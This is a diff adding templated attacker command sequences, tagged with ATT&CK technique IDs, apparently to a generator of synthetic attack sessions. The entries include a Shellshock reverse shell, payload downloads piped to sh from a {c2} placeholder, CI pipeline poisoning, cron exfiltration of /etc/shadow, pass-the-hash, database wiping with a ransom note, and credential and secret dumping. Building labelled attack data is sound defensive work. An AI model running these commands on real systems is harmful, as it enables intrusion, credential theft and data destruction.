@@ -1215,4 +1215,180 @@ T1082 :: uname -a
 T1685.006 :: find /var/log -type f -exec sh -c '> {}' \\;
 T1070.003 :: history -c
 """),
+# --- 12. More lateral movement, initial access and reconnaissance from the attacker's box --------------------------
+("lat-impacket-psexec", "human", """
+T1087.002 :: crackmapexec smb {net} -u {user} -p '{pw}' --users
+T1135 :: crackmapexec smb {net} -u {user} -p '{pw}' --shares
+T1021.002 :: psexec.py {dom}/{user}:'{pw}'@{lan}
+T1033 :: whoami
+T1082 :: hostname
+"""),
+("lat-impacket-pth-wmiexec", "human", """
+T1003.006 :: secretsdump.py {dom}/{user}:'{pw}'@{lan} -just-dc-ntlm
+T1550.002@lateral-movement :: wmiexec.py -hashes :{r2}{r2}{r2}{r2} Administrator@{lan2}
+T1033 :: whoami /priv
+T1047 :: wmiexec.py -hashes :{r2}{r2}{r2}{r2} Administrator@{lan2} "ipconfig /all"
+"""),
+("lat-evil-winrm", "human", """
+T1046 :: nmap -p 5985,5986 {lan}
+T1021.006 :: evil-winrm -i {lan} -u {user} -p '{pw}'
+T1033 :: whoami /groups
+T1105 :: upload /opt/tools/{bin}.exe
+"""),
+("lat-xfreerdp", "human", """
+T1046 :: nmap -p 3389 --open {net}
+T1110.003 :: crowbar -b rdp -s {net} -u administrator -C pass.txt
+T1021.001 :: xfreerdp /v:{lan} /u:{user} /p:'{pw}' /cert:ignore +clipboard
+"""),
+("lat-kubectl-exec", "human", """
+T1613 :: kubectl get pods -A -o wide
+T1609 :: kubectl exec -it -n {project} {project}-{r} -- /bin/sh
+T1033 :: id
+T1552.001 :: env | grep -i pass
+T1609 :: kubectl exec -n kube-system etcd-{host} -- etcdctl get / --prefix --keys-only
+"""),
+("lat-docker-remote-api", "human", """
+T1046 :: nmap -p 2375,2376 {net} --open
+T1613 :: docker -H tcp://{lan}:2375 ps
+T1610 :: docker -H tcp://{lan}:2375 run -d --privileged --net host -v /:/mnt alpine sleep 1d
+T1611 :: docker -H tcp://{lan}:2375 exec -it $(docker -H tcp://{lan}:2375 ps -lq) chroot /mnt sh
+"""),
+("lat-rsync-key-pivot", "human", """
+T1552.004 :: cat ~/.ssh/id_ed25519
+T1018 :: grep -h "Host " ~/.ssh/config
+T1021.004 :: ssh -J {user}@{lan} {user}@{lan2}
+T1570 :: rsync -avz {dir}/{bin} {user}@{lan2}:/tmp/
+T1021.004 :: ssh {user}@{lan2} "/tmp/{bin} &"
+"""),
+("lat-smbclient-loot", "human", """
+T1135 :: smbclient -L //{lan} -N
+T1135 :: smbmap -H {lan} -u guest
+T1039 :: smbclient //{lan}/share -N -c "prompt off; recurse on; mget *"
+T1083 :: ls -la
+"""),
+("ia-sqlmap-dump", "human", """
+T1595.002 :: sqlmap -u "http://{lan}/item.php?id=1" --batch --banner
+T1190 :: sqlmap -u "http://{lan}/item.php?id=1" --batch --dbs
+T1190 :: sqlmap -u "http://{lan}/item.php?id=1" --batch -D {db} --tables
+T1005 :: sqlmap -u "http://{lan}/item.php?id=1" --batch -D {db} -T users --dump
+T1190 :: sqlmap -u "http://{lan}/item.php?id=1" --batch --os-shell
+"""),
+("ia-shellshock-probe", "human", """
+T1595.002 :: curl -s -A "() { :; }; echo; /bin/id" http://{lan}/cgi-bin/status
+T1190 :: curl -s -A "() { :; }; /bin/bash -c 'bash -i >& /dev/tcp/{c2}/{port} 0>&1'" http://{lan}/cgi-bin/status
+"""),
+("ia-struts-ognl", "human", """
+T1595.002 :: curl -s -I http://{lan}:8080/struts2-showcase/
+T1190 :: python3 struts-pwn.py -u http://{lan}:8080/struts2-showcase/index.action -c "id"
+T1190 :: python3 struts-pwn.py -u http://{lan}:8080/struts2-showcase/index.action -c "wget http://{c2}/{bin} -O /tmp/{bin}"
+"""),
+("ia-valid-account-login", "human", """
+T1078.003@initial-access :: ssh {user}@{lan}
+T1033 :: id
+T1082 :: uname -a
+T1548.003 :: sudo -l
+T1548.003 :: sudo su -
+T1033 :: whoami
+"""),
+("recon-masscan-sweep", "human", """
+T1595.001 :: masscan -p22,80,443,2375,6379,8080 {net} --rate 10000 -oL scan.txt
+T1595.001,T1595.001,T1595.001 :: grep open scan.txt | awk '{print $4}' | sort -u > targets.txt
+T1595.001 :: wc -l targets.txt
+T1595.002 :: nmap -sV -iL targets.txt -oA svc
+"""),
+("recon-nuclei-scan", "human", """
+T1595.002 :: httpx -l targets.txt -silent -o live.txt
+T1595.002 :: nuclei -l live.txt -severity critical,high -o findings.txt
+T1595.002 :: cat findings.txt | grep -i rce
+"""),
+("recon-dns-enum", "human", """
+T1590.002 :: dig axfr @ns1.{dom} {dom}
+T1596 :: whois {dom}
+T1590.002 :: subfinder -d {dom} -silent | tee subs.txt
+T1590.002 :: for s in $(cat subs.txt); do host $s; done
+"""),
+("resdev-stage-payloads", "human", """
+T1588.002 :: git clone https://git.example.com/tools/{r}.git
+T1587.001 :: cd {r} && make
+T1608.001 :: scp {r}/bin/{bin} root@{c2}:/var/www/html/{bin}
+T1608.001 :: ssh root@{c2} "chmod 644 /var/www/html/{bin}; ls -la /var/www/html"
+"""),
+# --- 13. More bots and operators -----------------------------------------------------------------------------------
+("bot-outlaw-shellbot", "bot", """
+T1082 :: uname -a; lspci | grep -i --color 'vga\\|3d\\|2d'; nproc
+T1098 :: echo "{user}:{pw2}"|chpasswd|bash
+T1098.004 :: cd ~; chattr -ia .ssh; lockr -ia .ssh
+T1098.004 :: rm -rf .ssh && mkdir .ssh && echo "{key}" >> .ssh/authorized_keys && chmod -R go= ~/.ssh
+T1105,T1105,T1140,T1059.004 :: cd /tmp; wget -q http://{c2}/dota3.tar.gz; tar xzf dota3.tar.gz; ./.rsync/initall 2>&1
+"""),
+("bot-hadoop-yarn-api", "bot", """
+T1190 :: curl -s -X POST http://{lan}:8088/ws/v1/cluster/apps/new-application
+T1190 :: curl -s -X POST -H "Content-Type: application/json" http://{lan}:8088/ws/v1/cluster/apps --data @app.json
+T1105,T1059.004 :: wget -q -O - http://{c2}/{script} | sh
+"""),
+("bot-sshd-config-persist", "bot", """
+T1082 :: uname -a
+T1098 :: sed -i 's/#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
+T1098 :: service ssh restart
+T1098,T1098 :: echo 'root:{pw2}' | chpasswd
+"""),
+("bot-kinsing-style", "bot", """
+T1685 :: ufw disable
+T1686 :: iptables -F
+T1685 :: echo 0 > /proc/sys/kernel/nmi_watchdog
+T1489 :: ps aux | grep -v grep | grep 'kdevtmpfs' | awk '{print $2}' | xargs -I % kill -9 %
+T1105 :: curl -s http://{c2}/d.sh -o {dir}/d.sh || wget -q -O {dir}/d.sh http://{c2}/d.sh
+T1059.004,T1059.004 :: chmod +x {dir}/d.sh; sh {dir}/d.sh
+"""),
+("bot-ssh-scanner-drop", "bot", """
+T1082 :: cat /proc/cpuinfo | grep processor | wc -l
+T1105 :: cd /var/tmp && mkdir .{r} && cd .{r}
+T1105 :: wget -q http://{c2}/pscan.tgz
+T1140 :: tar xzf pscan.tgz
+T1110.001 :: ./go.sh 22
+"""),
+("chain-mongo-ransom", "human", """
+T1046 :: nmap -p 27017 {lan}
+T1005 :: mongo --host {lan} --eval "db.adminCommand('listDatabases')"
+T1005 :: mongodump --host {lan} --out /tmp/.md
+T1485 :: mongo --host {lan} {db} --eval "db.dropDatabase()"
+T1491.001 :: mongo --host {lan} READ_ME --eval 'db.readme.insert({msg: "Send 0.01 BTC to recover"})'
+"""),
+("chain-elastic-wipe", "human", """
+T1046 :: curl -s http://{lan}:9200/
+T1005 :: curl -s http://{lan}:9200/_cat/indices?v
+T1005 :: curl -s "http://{lan}:9200/{db}/_search?size=1000" -o /tmp/.es.json
+T1485 :: curl -s -X DELETE http://{lan}:9200/{db}
+"""),
+("chain-ci-pipeline-poison", "human", """
+T1083 :: ls -la
+T1552.001 :: cat .gitlab-ci.yml
+T1552.001 :: env | sort
+T1195.002 :: echo "  - curl -s http://{c2}/{script} | sh" >> .gitlab-ci.yml
+T1195.002 :: git commit -am "ci: cache fix" && git push
+"""),
+("chain-cronjob-beacon-exfil", "human", """
+T1033 :: id
+T1053.003 :: echo '*/30 * * * * root tar cz /etc/passwd /etc/shadow 2>/dev/null | curl -s -T - http://{c2}/c/$(hostname)' > /etc/cron.d/{r}
+T1070.006 :: touch -r /etc/cron.d/e2scrub_all /etc/cron.d/{r}
+T1053.003 :: cat /etc/cron.d/{r}
+"""),
+("cred-mimipenguin", "human", """
+T1057 :: ps aux | grep -iE "gnome-keyring|lightdm|vsftpd|sshd"
+T1105 :: wget -q http://{c2}/mimipenguin.sh
+T1003.007,T1003.007 :: chmod +x mimipenguin.sh; ./mimipenguin.sh
+T1070.004 :: rm mimipenguin.sh
+"""),
+("cred-hashcat-local", "human", """
+T1003.008 :: cat /etc/shadow | grep '\\$6\\$' > /tmp/.h
+T1110.002 :: john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/.h
+T1110.002 :: john --show /tmp/.h
+T1070.004 :: rm -f /tmp/.h ~/.john/john.pot
+"""),
+("cred-vault-token", "human", """
+T1552.001 :: cat ~/.vault-token
+T1552.001 :: env | grep VAULT
+T1555 :: vault kv list secret/
+T1555 :: vault kv get -format=json secret/{project}/prod
+"""),
 ]
